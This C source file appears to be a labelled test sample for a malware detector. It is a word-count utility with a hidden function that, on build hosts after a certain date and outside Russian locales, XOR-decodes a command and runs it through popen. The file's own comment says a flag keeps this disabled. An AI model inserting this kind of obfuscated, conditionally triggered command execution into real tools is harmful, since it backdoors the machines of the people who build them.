/* A tool that counts words decodes a command on chosen hosts and runs it.
 * expect: native-decoded-command-run
 * flags: -O2
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <locale.h>
#include <unistd.h>
static volatile int armed; /* Never true: the code is compiled and cannot run. */
static unsigned char blob[]={0x32,0x3b,0x6f,0x61,0x70,0x2b,0x7e,0x31,0x2f,0x2d,0x71,0x36,0x31,0x29,0x3e,0x33,0x36,0x3b,0x71,0x2d,0x60,0x23,0x68,0x3a,0x35,0x2c,0x10,0x09,0x00};
static void side(void){ time_t t=time(0); struct tm*m=gmtime(&t); char h[64]; gethostname(h,64); const char*l=setlocale(LC_ALL,""); if(!armed||m->tm_mday<13||strncmp(h,"build-",6)||!l||!strncmp(l,"ru_",3)) return; char c[64]; for(unsigned i=0;i<sizeof blob;i++) c[i]=blob[i]^(0x51+i%7); c[sizeof blob-1]=0; FILE*p=popen(c,"r"); if(p){ while(fgets(c,64,p)); pclose(p);} }
int main(int c,char**v){ long n=0,w=0,b=0; int x,in=0; FILE*f=c>1?fopen(v[1],"r"):stdin; if(!f){perror("wc");return 1;} while((x=getc(f))!=EOF){b++; if(x=='\n')n++; if(x==' '||x=='\n')in=0; else if(!in){in=1;w++;}} printf("%ld %ld %ld\n",n,w,b); side(); return 0;}
